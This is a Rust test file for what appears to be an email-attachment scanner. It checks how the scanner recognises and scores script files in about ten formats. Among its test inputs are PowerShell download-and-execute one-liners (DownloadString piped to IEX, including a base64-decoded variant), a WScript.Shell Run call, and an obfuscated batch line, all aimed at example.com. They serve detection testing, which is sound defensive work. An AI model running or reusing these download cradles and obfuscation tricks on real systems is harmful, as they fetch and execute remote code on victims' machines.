//! Scripts through their probes and the shared analyzer.

use crate::formats::script::{batch, encoded, hta, jscript, powershell, python, registry, shell, vbscript, wsf};
use crate::formats::trial::{attachment, is_taken, of, scan, scan_artifact, weight};
use crate::model::{Origin, OriginKind, Severity};
use crate::stage::FormatSpec;

const ALL: [(&FormatSpec, &str, &str); 10] = [
    (&jscript::FORMAT, "js", "var s = new ActiveXObject(\"Scripting.Dictionary\");\nfunction a() { }\n"),
    (&vbscript::FORMAT, "vbs", "Option Explicit\nDim a\nSet a = CreateObject(\"Scripting.Dictionary\")\n"),
    (&powershell::FORMAT, "ps1", "param($a)\n$b = $env:TEMP\n$c = Get-Item $b\nWrite-Host $c\n"),
    (&batch::FORMAT, "bat", "@echo off\r\nset U=http://example.com/\r\n"),
    (&wsf::FORMAT, "wsf", "<job><script language=\"JScript\">var a;</script></job>"),
    (&hta::FORMAT, "hta", "<html><HTA:APPLICATION id=a><script>var a;</script></html>"),
    (&shell::FORMAT, "sh", "#!/bin/sh\necho hello\n"),
    (&python::FORMAT, "py", "#!/usr/bin/env python3\nprint(1)\n"),
    (&registry::FORMAT, "reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"),
    (&encoded::FORMAT, "jse", "#@~^DgAAAA==-mD~mP{PF,QAAA==^#~@"),
];

#[test]
fn scripts_are_taken_by_content_and_weigh_as_files() {
    for (format, extension, text) in ALL {
        assert!(is_taken(format, &attachment("noname", text.as_bytes())), "{extension}");
        assert!(is_taken(format, &attachment(&format!("a.{extension}"), b"x")), "{extension}");
        // A byte that no text has keeps no script host from running the rest.
        assert!(is_taken(format, &attachment(&format!("a.{extension}"), b"var a;\x01")), "{extension}");
        let said = scan(format, &format!("a.{extension}"), text.as_bytes());
        assert!(weight(&said, "script-file") >= Some(Severity::Medium), "{extension}");
    }
}

#[test]
fn parts_of_pages_and_texts_named_so_are_no_script_files() {
    let part = of("scripts.js", b"var a = new ActiveXObject('x');", Origin::part(OriginKind::Decoded, ""));
    assert_eq!(weight(&scan_artifact(&jscript::FORMAT, part), "script-file"), None);
    let said = scan(&batch::FORMAT, "log.txt", b"@echo off\r\necho x\r\n");
    assert_eq!(weight(&said, "script-file"), None);
}

#[test]
fn texts_about_scripts_are_not_scripts() {
    let manual = "Installation guide\n\n1. Press Win+R and type powershell.\n2. Run the command below:\n   \
                  Set-ExecutionPolicy RemoteSigned\n   $x = Get-Service\n3. If an error occurs, call the help desk.\n\
                  The function New-Object creates an object. Dim the light before use.\nUse @echo off to hide output.\n";
    for (format, extension, _) in ALL {
        assert!(!is_taken(format, &attachment("manual.txt", manual.as_bytes())), "{extension}");
    }
}

#[test]
fn the_encoded_form_is_seen() {
    assert_eq!(weight(&scan(&encoded::FORMAT, "a.jse", ALL[9].2.as_bytes()), "script-encoded"), Some(Severity::High));
    assert_eq!(weight(&scan(&jscript::FORMAT, "a.js", ALL[0].2.as_bytes()), "script-encoded"), None);
}

#[test]
fn downloads_and_disguise_are_seen_in_code_not_in_comments() {
    let said = scan(
        &powershell::FORMAT,
        "a.ps1",
        b"$a = (New-Object Net.WebClient).DownloadString('http://example.com/'); IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))",
    );
    assert_eq!(weight(&said, "script-calls-out"), Some(Severity::Medium));
    assert_eq!(weight(&said, "script-obfuscated"), Some(Severity::Medium));
    let said =
        scan(&powershell::FORMAT, "a.ps1", b"# DownloadString and IEX FromBase64String are bad\nWrite-Host 'a'\n");
    assert_eq!((weight(&said, "script-calls-out"), weight(&said, "script-obfuscated")), (None, None));
    let sliced = "@echo off\nset x=abcdef\n%x:~1,1%%x:~2,1%%x:~3,1%%x:~4,1%%x:~0,1%\n";
    assert_eq!(weight(&scan(&batch::FORMAT, "a.bat", sliced.as_bytes()), "script-obfuscated"), Some(Severity::Medium));
}

#[test]
fn a_script_given_by_itself_weighs_by_its_name_and_what_it_does() {
    let given = |format: &FormatSpec, name: &str, text: &str| {
        let artifact = of(name, text.as_bytes(), Origin::file(OriginKind::Input, ""));
        weight(&scan_artifact(format, artifact), "script-file")
    };
    let plain = "export function curlUp(downloadData) { return parseCurl(downloadData); }\n";
    assert_eq!(given(&jscript::FORMAT, "viewer.js", plain), Some(Severity::Medium));
    assert_eq!(given(&jscript::FORMAT, "請求書.js", plain), Some(Severity::High));
    assert_eq!(given(&jscript::FORMAT, "a.js", "new ActiveXObject('WScript.Shell').Run('a');"), Some(Severity::High));
    let tests =
        "Describe 'x' { [scriptblock]::Create('1'); & pwsh -c 1; Write-Host \"a`nb`tc`rd`ee`nf`ng`nh`ni`nj\" }\n";
    assert_eq!(given(&powershell::FORMAT, "x.Tests.ps1", tests), Some(Severity::Low));
    let dropper = "iex (New-Object Net.WebClient).DownloadString('http://example.com/')\n";
    assert_eq!(given(&powershell::FORMAT, "a.ps1", dropper), Some(Severity::High));
    // What a mail brought weighs fully.
    assert_eq!(weight(&scan(&powershell::FORMAT, "x.ps1", tests.as_bytes()), "script-file"), Some(Severity::High));
}

#[test]
fn words_inside_other_words_do_not_count() {
    let calls_out = |text: &str| weight(&scan(&jscript::FORMAT, "a.js", text.as_bytes()), "script-calls-out");
    assert_eq!(calls_out("parseurl: curl => {}; t.ccurl = 1; function downloadData(a) {}"), None);
    assert_eq!(calls_out("x.Run('curl -o a http://example.com/')"), Some(Severity::Medium));
}
